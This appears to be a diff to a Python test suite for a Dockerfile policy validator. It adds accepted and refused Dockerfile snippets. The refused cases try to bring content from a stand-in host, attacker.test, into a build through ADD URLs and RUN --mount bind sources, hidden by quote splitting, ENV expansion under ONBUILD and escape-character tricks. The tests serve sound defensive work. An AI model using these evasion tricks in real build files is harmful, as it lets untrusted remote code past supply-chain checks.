@@ -20,6 +20,7 @@ def refuse(text: str, **arguments: str) -> None:
         "from \\\n  # between\n  debian:12 as One\nFROM ONE\n",
         "ARG BASE_IMAGE=snapshot:other\nFROM ${BASE_IMAGE}\nADD a.tar /\n",
         "FROM debian:12\nRUN curl https://example.test\n",
+        "FROM debian:12\nRUN --mount=type=cache,target=/c --network=none pip install --from=x $Y\n",
         "ARG V='12'\nARG UNSET\nFROM debian:$V\nARG A=1 B='2 3'\n",
     ],
 )
@@ -67,6 +68,9 @@ def test_what_the_engine_has_is_fine(text: str) -> None:
         "ARG X=own\nFROM $Xé/base\n",
         "FROM debian:12\nRUN <<'x\\'\nRUN x\\\nADD https://attacker.test/x /x\n",
         "FROM debian:12\nCOPY <<'' /a\nRUN x \\\n\nADD https://attacker.test/x /x\n",
+        "FROM debian:12\nRUN --network=none --mount=type=bind,from=attacker.test/x,target=/m true\n",
+        'FROM debian:12\nRUN --mount="type=bind,fr"om=attacker.test/x,target=/m true\n',
+        "FROM debian:12\nENV X=mount=type=bind,from=attacker.test/x,target=/m\nONBUILD RUN --$X true\n",
         "# escape=`\nFROM debian:12\nADD htt`\nps://attacker.test/x /x\n",
     ],
 )
